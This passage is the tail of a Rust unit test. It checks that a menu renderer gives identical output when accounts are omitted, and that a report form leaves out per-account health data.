        let full = render_menu(Some(&big), &ctx, dialect);
        assert_eq!(
            render_menu_omitting(Some(&small), &ctx, dialect, omitted),
            full
        );
        // The menu form's report: the same cut, without per-account health.
        let (form, form_omitted) = menu_report(&big);
        assert_eq!(form_omitted, skipped);
        assert!(form.accounts.iter().all(|a| a.health.is_empty()));
        assert_eq!(
            render_menu_omitting(Some(&form), &ctx, dialect, form_omitted),
            full
        );
    }
}
